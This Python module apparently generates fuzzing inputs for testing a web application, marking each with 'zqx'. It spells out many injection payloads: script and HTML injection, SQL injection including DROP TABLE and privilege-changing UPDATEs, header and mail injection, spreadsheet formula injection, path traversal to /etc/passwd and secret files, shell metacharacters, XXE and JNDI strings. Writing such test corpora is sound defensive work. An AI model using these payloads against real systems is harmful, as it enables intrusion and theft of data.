"""Hostile words, made from contexts × vectors × spellings. Each carries MARK, so that it can be
found again wherever it comes out."""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from urllib.parse import quote

MARK = "zqx"  # in no word of any language that we write
PLAIN = "Zqxplain"  # the same, meaning no harm
_ELSEWHERE = "//zqx.example"


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile text and what it is made for."""

    kind: str
    text: str


# --- pages -------------------------------------------------------------------------------------

_OUT_OF = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>",
    "</option></select>", "</a></p></li></main>", "<!--><", "</noscript>", "</svg>",
)  # fmt: skip
_VECTORS = (
    "<zqx-a>", "<script>zqx()</script>", "<img src=zqx onerror=zqx()>", "<svg onload=zqx()>",
    "<a href=javascript:zqx()>zqx</a>", "<iframe srcdoc=zqx>", f"<base href={_ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>", "<style>zqx{color:red}</style>",
    f"<form action={_ELSEWHERE}><input name=zqx>", "<details open ontoggle=zqx()>zqx",
    "<math><zqx-m>", f"<object data={_ELSEWHERE}>", f"<link rel=stylesheet href={_ELSEWHERE}>",
    "<p id=zqx class=zqx style=zqx>", "<input autofocus onfocus=zqx()>", "<template><zqx-t>",
)  # fmt: skip
_ATTRIBUTES = (
    '" onmouseover="zqx()', "' onfocus='zqx()' autofocus='", " zqx=1 onload=zqx() ", '" zqx="',
    "` onerror=`zqx()", '" href="javascript:zqx()', '" formaction="//zqx.example', '\\" zqx=\\"',
    '"/><zqx-b/', "'\"><zqx-c a='", '" style="background:url(//zqx.example)', '" srcdoc="<zqx>',
)  # fmt: skip
_SCHEMES = (
    "javascript:zqx()", "JaVaScRiPt:zqx()", " javascript:zqx()", "java\tscript:zqx()",
    "java\nscript:zqx()", "\x01javascript:zqx()", "data:text/html,<zqx-d>", "vbscript:zqx()",
    "//zqx.example/", "\\\\zqx.example", "/\\zqx.example", "https:zqx.example", "///zqx.example",
    "http://localhost@zqx.example", "https://zqx.example/", "javascript://localhost/%0azqx()",
    "/%09/zqx.example", "/.//zqx.example", "http:///zqx.example", "//zqx。example",
    "/%5czqx.example",
)  # fmt: skip
_EVALUATED = (
    "zqx{{7*7}}zqx", "zqx{%debug%}zqx", "zqx{{request}}zqx", "zqx${7*7}zqx", "zqx#{7*7}zqx",
    "zqx<%=7*7%>zqx", "zqx@@words@@zqx", "zqx%(given)szqx", "zqx{0.__class__}zqx", "zqx%s%s%nzqx",
    "zqx{given.__init__}zqx", "zqx{number}zqx", "zqx{name}zqx", "zqx{{''.__class__}}zqx",
    "zqx{%load static%}zqx", "zqx{# zqx #}", "zqx{}zqx{", "zqx}}{{zqx", "zqx%", "zqx%(", "zqx{!r}",
)  # fmt: skip


def _entities(text: str) -> str:
    return "".join(f"&#{ord(letter)};" if letter in "<>\"'" else letter for letter in text)


def _hex_entities(text: str) -> str:
    return "".join(f"&#x{ord(letter):04X}" if letter in "<>\"'" else letter for letter in text)


def _wide(text: str) -> str:
    return text.translate({ord(ascii_): ord(ascii_) + 0xFEE0 for ascii_ in "<>\"'/=()"})


def _escaped(text: str) -> str:
    return "".join(f"\\u{ord(letter):04x}" if letter in "<>\"'" else letter for letter in text)


def _overlong(text: str) -> str:
    """``<`` as the two bytes C0 BC, which UTF-8 forbids, read as Latin-1."""
    return text.replace("<", "\xc0\xbc").replace(">", "\xc0\xbe")


_SPELLINGS = (
    lambda text: text,
    str.upper,
    lambda text: "".join(
        letter.upper() if number % 2 else letter for number, letter in enumerate(text)
    ),
    _entities,
    _hex_entities,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;").replace("&lt;", "&amp;lt;"),
    quote,
    lambda text: quote(quote(text)),
    _wide,
    _escaped,
    _overlong,
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace(" ", "\t").replace("=", "\n="),
    lambda text: text.replace(" ", "/").replace(">", "\x0c>"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: "\u202e" + text + "\u2066",
    lambda text: text.replace("<", "\u226e"),  # "<" with a stroke: NFKD takes it apart
)


def _pages() -> Iterator[str]:
    for out_of, vector, spell in itertools.product(_OUT_OF, _VECTORS, _SPELLINGS):
        yield spell(out_of + vector)
    for vector, spell in itertools.product((*_ATTRIBUTES, *_SCHEMES), _SPELLINGS):
        yield spell(vector)


# --- everything else that reads words -----------------------------------------------------------

_QUOTES = ("'", '"', "`", "\\'", "''", "')", '")', "'))", "", "%27", "\u02bc", "\u2019", "\uff07")
_STATEMENTS = (
    " OR '1'='1", " OR 1=1 --", " UNION SELECT name_sealed FROM people_person --",
    "; DROP TABLE events_event; --", " AND randomblob(100000000)", "||pg_sleep(9)--", " LIMIT 0 --",
    "; UPDATE accounts_grant SET role='owner' --", " /*zqx*/ OR /**/ 1", "%' OR title LIKE '%",
    " IN (SELECT 1)", " ORDER BY 99", ") OR (1", "\\", "%", "_%_", "*", "[zqx]", "::int", "\x00",
)  # fmt: skip
_BREAKS = (
    "\r\n", "\n", "\r", "%0d%0a", "%0a", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\r\n ",
    "\n\t", "\u560a\u560d", "\\r\\n", "=0D=0A", "=?utf-8?q?=0D=0A?=", "\x1e", "\x00\r\n",
)  # fmt: skip
_LINES = (
    "Bcc: zqx@zqx.example", "Subject: zqx", "Content-Type: text/html", "Set-Cookie: zqx=1",
    "Location: //zqx.example", "\r\n<zqx-e>", ".\r\nMAIL FROM:<zqx@zqx.example>", "X-Zqx: 1",
    "Reply-To: zqx@zqx.example", "Content-Transfer-Encoding: base64", "ATTENDEE:mailto:zqx@zqx.x",
    "END:VEVENT", "BEGIN:VALARM", "URL:javascript:zqx()", "--=zqx", "To: zqx@zqx.example",
)  # fmt: skip
_DIRECTIONS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "\xa0=", "\u3000+",
          "\ufeff=", "\u200b=", "\u2009-", "\x0b@")  # fmt: skip
_COMMANDS = (
    "cmd|' /C zqx'!A0", 'HYPERLINK("//zqx.example","zqx")', "1+1+zqx", "SUM(1+1)*zqx", "A1,zqx",
    'IMPORTXML("//zqx.example")', "DDE(zqx)", '"zqx"&A1', "zqx",
)  # fmt: skip
_STEPS = (
    "../", "..\\", "%2e%2e/", "%2e%2e%2f", "..%2f", "..%5c", "%252e%252e%252f", "....//", "..;/",
    "\uff0e\uff0e/", "..%c0%af", "..\x00/", "./..//",
)  # fmt: skip
_FILES = ("etc/passwd", "proc/self/environ", "groundswell/config/settings.py", "master.key",
          "db.sqlite3", "windows/win.ini", "zqx")  # fmt: skip
_ALPHABETS = (
    "a", "zqx ", "\u0301", "\u200b", "\U0001f469\u200d", "\u0627", "<", "&", "'", "\U000e0041",
    "\ud800", "\udfff", "\ufffe", "\ufdd0", "\ufeff", "\u0130", "\ufb03", "\ufdfa", "%", "9",
)  # fmt: skip
_LENGTHS = (1, 2, 61, 121, 201, 301, 2_001, 4_001, 20_000)
_SHELL = (
    "$(zqx)", "`zqx`", "|zqx", ";zqx", "&zqx", "&&zqx", "\nzqx\n", "$IFS", "~zqx", "${jndi:zqx}",
    "-zqx", "--zqx=1", ">zqx", "<zqx", "%ZQX%", "!zqx!", "zqx\x00.png", "zqx.php.png", "CON", "nul",
)  # fmt: skip
_DATA = (
    '","is_owner":true,"zqx":"', "__proto__[zqx]", "zqx[]", "zqx[$ne]", '{"$gt":""}', "[object]",
    "<!DOCTYPE zqx [<!ENTITY zqx SYSTEM 'file:///etc/passwd'>]><zqx>&zqx;</zqx>", "null", "true",
    "[" * 20_000, '{"a":' * 9_000, "[]", '{"id":1,"rawId":null,"type":[],"response":{}}',
    '{"id":"zqx","rawId":"AAAA","type":"public-key","response":{"userHandle":"MQ","signature":"",'
    '"clientDataJSON":"e30","authenticatorData":"AAAA","attestationObject":"oA"}}', '"\\ud800"',
    '{"response":{"userHandle":"zqx"}}', '{"response":null}', '{"response":[1]}', '{"id":1e999}',
    "undefined", "NaN", "Infinity", "-Infinity", "1e999", "0x7fffffff", "-1", "9" * 19, "9" * 400,
    "1.5", "1,5", "１２", "٣", "१", "²", "Ⅷ", "0", "-0", "+1", "1_000", "1e3", "", " ", "\t",
    "None",
    "0000-00-00", "9999-12-31", "2026-02-30", "10000-01-01", "-0001-01-01", "24:00", "99:99",
    "23:59:60", "2026-03-21T11:00", "2026-03-21 11:00+99:99", "1969-12-31", "0001-01-01", "٠١:٠٠",
    "a@b", "@", "a@b@c.d", '"zqx\n"@x.example', "zqx@[127.0.0.1]", "zqx@xn--zqx", "<zqx@x.example>",
    "zqx@x.example,b@x.example", "zqx@x.example\nBcc:b@x.example", "z" * 65 + "@x.example", "é@ü.ä",
    "+0", "+447911123456;ext=zqx", "tel:+1", "٠٧٩١١", "+" * 30, "(((", "#zqx", "+44 zqx",
    "\u202a+1",
)  # fmt: skip


def _others() -> Iterator[tuple[str, str]]:
    for mark, statement in itertools.product(_QUOTES, _STATEMENTS):
        yield "sql", f"{MARK}{mark}{statement}"
    for before, end, line in itertools.product(("zqx", ""), _BREAKS, _LINES):
        yield "header", f"{before}{end}{line}"
    for sign, number in itertools.product(_DIRECTIONS, range(4)):
        yield "direction", ("zqx" + sign) * (1 + number * 7) + "gpj.exe"
    for sign, command in itertools.product(_SIGNS, _COMMANDS):
        yield "formula", sign + command
    for step, depth, file in itertools.product(_STEPS, (1, 4, 9), _FILES):
        yield "path", step * depth + file
    for letters, length in itertools.product(_ALPHABETS, _LENGTHS):
        yield "overlong", (letters * length)[:length]
    yield from (("evaluated", text) for text in _EVALUATED)
    yield from (("shell", text) for text in _SHELL)
    yield from (("data", text) for text in _DATA)


@cache
def everything() -> tuple[Payload, ...]:
    """All of them, each text once, always the same ones."""
    found = {text: Payload("page", text) for text in _pages()}
    for kind, text in _others():
        found.setdefault(text, Payload(kind, text))
    return tuple(found.values())


def of(*kinds: str) -> list[Payload]:
    """Those of some kinds."""
    return [one for one in everything() if one.kind in kinds]


class Supply:
    """The whole corpus in a drawn order, again and again, so that a run of any length is mixed."""

    def __init__(self, dice: random.Random, *kinds: str) -> None:
        self._all = of(*kinds) if kinds else list(everything())
        self._dice = dice
        self._left: list[Payload] = []

    def next(self) -> Payload:
        if not self._left:
            self._left = self._dice.sample(self._all, len(self._all))
        return self._left.pop()

    def short(self, most: int) -> Payload:
        """One that a field of this length takes."""
        while True:
            found = self.next()
            if len(found.text) <= most:
                return found
